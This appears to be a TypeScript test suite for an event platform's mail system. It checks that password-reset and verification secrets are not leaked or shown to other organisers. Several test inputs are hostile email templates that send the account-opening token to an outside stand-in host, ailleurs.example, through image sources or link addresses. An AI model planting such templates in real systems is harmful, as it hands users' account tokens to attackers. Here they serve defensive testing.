import { sendEmailCode, sendLink } from '@parvis/contract/auth/auth.ts'
import { fieldsTellingLink } from '@parvis/contract/emails/emails.rules.ts'
import {
  createTemplate,
  listMails,
  mailAction,
  readMail,
  sendMails,
  updateAction,
  updateTemplate,
} from '@parvis/contract/emails/emails.ts'
import { getPart, savePart } from '@parvis/contract/event-config/event-config.ts'
import { getPerson } from '@parvis/contract/people/people.ts'
import { inviteToTeam } from '@parvis/contract/team/team.ts'
import { saveTranslations } from '@parvis/contract/translations/translations.ts'
import { eq } from 'drizzle-orm'
import { describe, expect, it } from 'vitest'
import { emailActions, emailActionTemplates, emailTemplates, outbox } from '#db/tables/emails.ts'
import { events, organisers } from '#db/tables/events.ts'
import { translations } from '#db/tables/translations.ts'
import { delivered, writtenMails } from '#testing/delivered.ts'
import type { Person, World } from '#testing/world.ts'
import { makeWorld } from '#testing/world.ts'
import { settleMail } from './emails.store.ts'

const mailsOf = (world: World) => writtenMails(world.ports, eq(outbox.eventId, world.eventId))

async function written(world: World, actionId: number, text: { subject: string; bodyHtml: string }) {
  const { eventId } = world
  await world.ports.db.insert(emailTemplates).values({ eventId, id: 'own', label: 'À nous', ...text })
  await world.ports.db.insert(emailActions).values({ eventId, actionId })
  await world.ports.db.insert(emailActionTemplates).values({ eventId, actionId, language: 'fr', templateId: 'own' })
}

const askLink = async (world: World, person: Person) => {
  const body = { email: person.email, actionId: mailAction.forgotPassword, variables: {} }
  await world.call(sendLink, { params: world.path, body })
  await world.ports.jobs.settle()
  const [mail] = await mailsOf(world)
  return { mail, ...delivered(mail) }
}

function addressesIn(html: string): { addresses: string[]; others: string } {
  const found = [...html.matchAll(/<a [^<>]*?href="([^"]*)"/g)].map(([, address = '']) => address)
  return { addresses: found, others: html.replace(/(<a [^<>]*?)href="[^"]*"/g, '$1') }
}

const pressed = (html: string): string[] =>
  [...html.matchAll(/<a [^<>]*token=[^<>]*>(.*?)<\/a>/gs)]
    .map(([, inside = '']) => inside.replace(/<[^<>]*>|&\w+;|\s/g, ''))
    .filter(Boolean)

const OPENS = /^http:\/\/localhost\/[^/]+\/password\/new\?token=[\w-]{43}$/

describe('the link of a mail that opens an account', () => {
  it.each([
    ['in the subject', '{{link}} à suivre', '<p><a href="{{link}}">Entrer</a></p>'],
    ['in the text', 'Entrer', '<p>Recopiez {{link}} ou {{{ link }}}</p>'],
    ['in the address of a picture', 'Entrer', '<p><img src="https://ailleurs.example/?{{link}}" alt="{{link}}"></p>'],
    ['within an address elsewhere', 'Entrer', '<p><a href="https://ailleurs.example/?{{link}}">Entrer</a></p>'],
    ['after an address elsewhere', 'Entrer', '<p><a href="https://ailleurs.example/#{{{link}}}">Entrer</a></p>'],
    ['as an anchor', 'Entrer', '<p><a href="#{{link}}" title="{{link}}">Entrer</a></p>'],
    ['cut by tags', 'Entrer', '<p>{{li<b></b>nk}} {{<!-- -->link}} {<i></i>{link}}</p>'],
    ['with other braces', 'Entrer', '<p>{{{{link}}}} {{ link}} {{link }} &#123;{link}}</p>'],
    ['nowhere', 'Entrer', '<p>Bonjour</p>'],
    ['for others', 'Entrer', '<div data-only="remote"><p><a href="{{link}}">Entrer</a></p></div>'],
    ['around nothing', 'Entrer', '<p><a data-button href="{{link}}"></a><a href="{{link}}"> <b>&nbsp;</b></a></p>'],
    ['around itself', 'Entrer', '<p><a href="{{link}}">{{link}}</a></p>'],
    ['around an empty variable', 'Entrer', '<p><a href="{{link}}">{{lastName}}</a></p>'],
  ])('is the whole address of a link and nothing else, written %s', async (_, subject, bodyHtml) => {
    const world = await makeWorld()
    const lead = await world.person({ organiser: true, lastName: '' })
    await written(world, mailAction.forgotPassword, { subject, bodyHtml })
    const { mail, ...told } = await askLink(world, lead)
    const { addresses, others } = addressesIn(told.html)
    expect(pressed(told.html)).not.toEqual([])
    expect(addresses.filter((address) => address.includes('token='))).not.toEqual([])
    for (const address of addresses.filter((one) => one.includes('token='))) expect(address).toMatch(OPENS)
    expect(`${told.subject} ${others}`).not.toContain('token=')
    expect(told.html).not.toContain('ailleurs.example/?token')
    // The secret is stored apart only, never in a text.
    expect(`${mail?.subject} ${mail?.html} ${mail?.text}`).not.toContain('token=')
    expect(Object.values(mail?.secrets ?? {})).toEqual([expect.stringMatching(OPENS)])
  })

  it('comes with no picture of another site, in the text or at the top', async () => {
    const picture = '<img src="https://ailleurs.example/a.png" alt="Logo">'
    const world = await makeWorld({
      settings: { headerImg: 'https://ailleurs.example/b.png' },
    })
    const lead = await world.person({ organiser: true })
    await written(world, mailAction.forgotPassword, { subject: 'Entrer', bodyHtml: `<p>Bonjour ${picture}</p>` })
    const { html } = await askLink(world, lead)
    expect(html).toContain('Bonjour')
    expect(html).not.toContain('ailleurs.example')
  })

  it('goes once the mail has left', async () => {
    const world = await makeWorld()
    const { mail } = await askLink(world, await world.person())
    expect(mail).toMatchObject({ status: 'kept', secrets: expect.anything() })
    await settleMail(world.ports.db, mail?.id ?? '', { status: 'sent' })
    expect((await mailsOf(world))[0]).toMatchObject({ status: 'sent', secrets: null })
  })
})

describe('a reader of mails', () => {
  const secretOf = (mail: typeof outbox.$inferSelect | undefined) => Object.values(mail?.secrets ?? {})[0] ?? 'none'
  const readBy = async (world: World, as: Person, mailId = '', userId = '') => {
    const answers = [
      await world.call(listMails, { params: world.path, query: {} }, { as }),
      await world.call(readMail, { params: { ...world.path, mailId } }, { as }),
      await world.call(getPerson, { params: { ...world.path, userId } }, { as }),
    ]
    expect(answers.map(({ status }) => status)).toEqual([200, 200, 200])
    return answers.map(({ bytes }) => bytes.toString()).join()
  }

  it('reads no link of others in the list, the mail or the card', async () => {
    const world = await makeWorld()
    const lead = await world.person({ organiser: true, takesPart: true })
    const as = await world.person({ organiser: 'registration' })
    await written(world, mailAction.forgotPassword, { subject: '{{link}}', bodyHtml: '<p>{{link}}</p>' })
    const { mail } = await askLink(world, lead)
    const read = await readBy(world, as, mail?.id, lead.userId)
    expect(read).not.toContain(new URL(secretOf(mail)).searchParams.get('token'))
    expect(read).not.toContain('secret.invalid')
  })

  it('reads no code of an address that a mail holds itself, in either of its parts', async () => {
    const world = await makeWorld()
    const person = await world.person({ takesPart: true })
    const as = await world.person({ organiser: 'registration' })
    const { mail } = await askLink(world, person)
    for (const name of ['token', 'invitation', 'reader']) {
      const address = `https://exemple.fr/login?a=b&${name}=C0de_-9`
      const parts = { html: `<a href="${address}">Entrer</a>`, text: `Entrer : ${address}` }
      await world.ports.db.update(outbox).set(parts).where(eq(outbox.eventId, world.eventId))
      const read = await readBy(world, as, mail?.id, person.userId)
      expect(read).toContain(`${name}=…`)
      expect(read).not.toContain('C0de_-9')
    }
  })

  it('reads no code that proves the address of others', async () => {
    const world = await makeWorld()
    const person = await world.person({ isVerified: false, takesPart: true })
    const as = await world.person({ organiser: 'registration' })
    await world.call(sendEmailCode, { params: world.path, body: {} }, { as: person })
    await world.ports.jobs.settle()
    const [mail] = await mailsOf(world)
    expect(secretOf(mail)).toMatch(/^\d{6}$/)
    const read = await readBy(world, as, mail?.id, person.userId)
    expect(read).not.toContain(secretOf(mail))
    expect(read).toContain('… : votre code')
  })

  it.each([
    ['of a participant of this event alone, as its lead', {}, true],
    ['of a lead of another event of the organisation, as the lead of this one', { elsewhere: 'lead' }, false],
  ] as const)('reads a kept link %s', async (_, { elsewhere }: { elsewhere?: 'lead' }, isRead) => {
    const world = await makeWorld()
    const lead = await world.person({ organiser: true })
    const person = await world.person({ takesPart: true })
    if (elsewhere) {
      const { domainId } = world
      const other = { id: `${world.eventId}b`, domainId, context: `${world.context}b`, name: 'Salon', onSite: true }
      await world.ports.db.insert(events).values({ ...other, settings: {}, settingsByLanguage: {} })
      await world.ports.db
        .insert(organisers)
        .values({ domainId, eventId: other.id, userId: person.userId, role: elsewhere })
    }
    const { mail } = await askLink(world, person)
    expect(mail?.status).toBe('kept')
    const { body } = await world.call(readMail, { params: { ...world.path, mailId: mail?.id ?? '' } }, { as: lead })
    expect(body.html.includes(secretOf(mail))).toBe(isRead)
  })

  it('writes to the address of an unreadable account as to a stranger’s', async () => {
    const world = await makeWorld()
    const as = await world.person({ organiser: 'registration' })
    const other = await world.person({ firstName: 'Ondine' })
    const template = { label: 'Qui', subject: 'Bonjour {{firstName}} {{lastName}}', bodyHtml: '<p>{{firstName}}</p>' }
    const { body: made } = await world.call(createTemplate, { params: world.path, body: template }, { as })
    const sent = await world.call(
      sendMails,
      { params: world.path, body: { emailId: made.id, email: other.email } },
      { as },
    )
    expect(sent.body).toEqual({ queued: 1 })
    const [mail] = await mailsOf(world)
    expect(mail).toMatchObject({ to: other.email, userId: null })
    expect(`${mail?.subject} ${mail?.html}`).not.toContain('Ondine')
  })
})

describe('a text that says a link which opens an account', () => {
  const tells = { label: 'À nous', subject: 'Entrer', bodyHtml: '<p>Recopiez {{link}}</p>' }
  const leads = { label: 'À nous', subject: 'Entrer', bodyHtml: '<p><a href="{{link}}">Entrer</a></p>' }

  it('is refused to such an action, and to its present text', async () => {
    const world = await makeWorld()
    const as = await world.person({ organiser: true })
    const make = async (body: typeof tells) =>
      (await world.call(createTemplate, { params: world.path, body }, { as })).body
    const [wrong, right] = [await make(tells), await make(leads)]
    const choose = (actionId: number, templateId: string) =>
      world.call(
        updateAction,
        { params: { ...world.path, actionId: String(actionId) } as never, body: { templates: { fr: templateId } } },
        { as },
      )
    for (const actionId of [3, 7, 9, 10, 19]) {
      const { status, error } = await choose(actionId, wrong.id)
      expect([status, error.errors]).toEqual([
        400,
        [expect.objectContaining({ path: 'templates.fr', code: 'LINK_PLACE' })],
      ])
      expect((await choose(actionId, right.id)).status).toBe(200)
    }
    expect((await choose(mailAction.onsite, wrong.id)).status).toBe(200)
    const change = (body: typeof tells) =>
      world.call(updateTemplate, { params: { ...world.path, templateId: right.id }, body }, { as })
    expect((await change({ ...leads, subject: '{{link}}' })).error.errors).toEqual([
      expect.objectContaining({ path: 'subject', code: 'LINK_PLACE' }),
    ])
    expect((await change({ ...leads, subject: 'Bienvenue' })).status).toBe(200)
  })

  it('is refused in the part of an event', async () => {
    const world = await makeWorld()
    const as = await world.person({ organiser: true })
    const params = { ...world.path, part: 'emails' as const }
    const { body } = await world.call(getPart, { params }, { as })
    const value = {
      templates: [{ id: 'own', ...tells }],
      actions: [{ id: mailAction.signIn, enabled: true, templates: { fr: 'own' } }],
    }
    const saved = await world.call(savePart, { params, body: { revision: body.revision, value } }, { as })
    expect(saved.error.errors).toEqual([
      expect.objectContaining({ path: 'value.templates.0.bodyHtml', code: 'LINK_PLACE' }),
    ])
  })

  it.each([
    ['{{link}}', true],
    ['{{{ link }}}', true],
    ['<a href="{{link}}">{{link}}</a>', true],
    ['<a href="https://x.example/{{link}}">x</a>', true],
    ['<a href="{{link}}">Entrer</a>', false],
    ["<a data-button href='{{link}}'>Entrer</a>", false],
    ['{{firstName}}', false],
  ])('%s is one: %s', (text, isOne) =>
    expect(fieldsTellingLink([3], { subject: '', bodyHtml: text }).length > 0).toBe(isOne),
  )
})

describe('sentences that secure accounts', () => {
  const evil = '<img src="https://ailleurs.example/?{{link}}">'
  it.each([
    'mail.team.body',
    'mail.3.body',
    'mail.9.subject',
    'mail.10.body',
    'mail.code.subject',
    'mail.former.body',
    'mail.factor.on.body',
    'auth.sms',
  ])('%s is said by no event in its own words', async (key) => {
    const world = await makeWorld()
    const as = await world.person({ organiser: true })
    const called = await world.call(
      saveTranslations,
      { query: world.path, body: { languageId: 'fr', translations: { [key]: evil } } } as never,
      { as },
    )
    expect([called.status, called.error.errors?.[0]?.code]).toEqual([400, 'SENTENCE_GUARDED'])
    const params = { ...world.path, part: 'translations' as const }
    const { revision } = (await world.call(getPart, { params }, { as })).body
    const value = { fr: { [key]: evil } }
    const saved = await world.call(savePart, { params, body: { revision, value } }, { as })
    expect([saved.status, saved.error.errors?.[0]?.code]).toEqual([400, 'SENTENCE_GUARDED'])
    // A sentence saved before it was guarded is neither shown nor exported.
    await world.ports.db.insert(translations).values({ eventId: world.eventId, language: 'fr', key, sentence: evil })
    expect((await world.call(getPart, { params }, { as })).body.value).toEqual({})
    const { mail, html } = await askLink(world, as)
    await world.call(
      inviteToTeam,
      { params: world.path, body: { email: `${world.eventId}@exemple.fr`, role: 'reader' } },
      { as },
    )
    const invitation = delivered((await mailsOf(world)).at(-1))
    expect(`${mail?.subject} ${html} ${invitation.html}`).not.toContain('ailleurs.example')
    expect(invitation.html).toContain('invitation=')
  })
})
